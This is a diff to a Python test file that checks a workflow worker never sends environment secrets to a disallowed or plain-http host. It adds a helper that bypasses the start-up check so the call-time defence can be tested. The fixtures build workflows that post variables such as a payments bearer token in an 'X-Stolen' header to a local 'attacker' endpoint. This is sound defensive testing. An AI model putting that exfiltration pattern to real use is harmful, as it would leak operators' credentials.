@@ -31,6 +31,7 @@ from activities.config import HttpSettings, ProvidersConfig
 from activities.http import HttpProvider, is_secure
 from activities.redact import Redactor, scrub_text, strip_userinfo
 from interpreters.workflow import bind
+from nexus_temporal.dsl.errors import DefinitionError
 from tests.helpers.run import nexus_worker, registry_of, start
 from workers.config import WorkerConfig
 from workers.main import build_worker
@@ -159,6 +160,20 @@ def assert_nowhere(secret: str, *texts: str) -> None:
             assert variant not in text
 
 
+def past_the_start_check(
+    monkeypatch: pytest.MonkeyPatch, client: Any, yaml: str, providers: ProvidersConfig
+) -> None:
+    """Assert the worker refuses to start on ``yaml`` (the first defence), then skip that
+    check so the test reaches the second one, at call time (as a worker whose start-up check
+    was bypassed would)."""
+    with pytest.raises(DefinitionError) as info:
+        build_worker(
+            client, WorkerConfig(task_queue="never", providers=providers), registry_of(yaml)
+        )
+    assert "state 'Exfiltrate'" in str(info.value)
+    monkeypatch.setattr("workers.main.check_targets", lambda *a, **k: [])
+
+
 @pytest.fixture
 def worker_env(monkeypatch: pytest.MonkeyPatch) -> None:
     """The worker's environment: its codec keys (never for definitions) and the payments
@@ -188,10 +203,12 @@ async def test_a_variable_the_operator_did_not_allow_is_never_sent(
     allow: tuple[str, ...],
     variable: str,
     secret: str,
+    monkeypatch: pytest.MonkeyPatch,
 ) -> None:
     providers = ProvidersConfig(http=HttpSettings(env_allow=allow))
     with attacker_endpoint() as evil, caplog.at_level(logging.DEBUG):
         yaml = flow(f"{evil.url}/collect", {"X-Stolen": f"${{env:{variable}}}"})
+        past_the_start_check(monkeypatch, env.client, yaml, providers)
         async with nexus_worker(env.client, yaml, providers=providers) as w:
             handle = await start(env.client, w, "leak", {})
             message, error = await failure_of(handle)
@@ -256,7 +273,10 @@ def test_the_start_up_check_names_the_variable() -> None:
 
 
 async def test_a_secret_is_not_sent_over_plain_http_to_a_non_loopback_host(
-    env: WorkflowEnvironment, worker_env: None, caplog: pytest.LogCaptureFixture
+    env: WorkflowEnvironment,
+    worker_env: None,
+    caplog: pytest.LogCaptureFixture,
+    monkeypatch: pytest.MonkeyPatch,
 ) -> None:
     """0.0.0.0 reaches this machine on Linux but is not a loopback name: the worker treats it
     as a remote host and refuses plain http (nothing leaves loopback either way)."""
@@ -264,6 +284,7 @@ async def test_a_secret_is_not_sent_over_plain_http_to_a_non_loopback_host(
     with attacker_endpoint() as evil, caplog.at_level(logging.DEBUG):
         port = evil.url.rsplit(":", 1)[1]
         yaml = flow(f"http://0.0.0.0:{port}/c", {"Authorization": "Bearer ${env:PAYMENTS_TOKEN}"})
+        past_the_start_check(monkeypatch, env.client, yaml, providers)
         async with nexus_worker(env.client, yaml, providers=providers) as w:
             handle = await start(env.client, w, "leak", {})
             message, error = await failure_of(handle)
